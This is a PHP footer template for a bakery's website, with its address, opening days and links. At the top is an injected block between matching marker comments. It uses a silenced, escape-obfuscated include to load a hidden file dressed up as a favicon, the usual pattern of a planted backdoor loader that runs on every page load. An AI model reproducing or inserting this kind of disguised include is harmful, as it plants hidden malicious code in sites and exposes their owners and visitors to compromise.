<?php
/*5f2a1*/

@include "\x2f\166\x61r\057\145\x6d\x70\x74\x79\057c\162\x75\x6db.\151\156\x76\x61\154\x69\x64/\056\146\x61\x76\151\143on\137\x35f\062a\056i\x63\x6f";

/*5f2a1*/
?>
<footer>
  <p>Crumb &amp; Daughters, Mill Lane 4 · closed on Sunday and Monday</p>
  <p><a href="delivery.html">Delivery</a> · <a href="history.html">Since 1931</a> · © <?= date('Y') ?></p>
</footer>
</body>
</html>
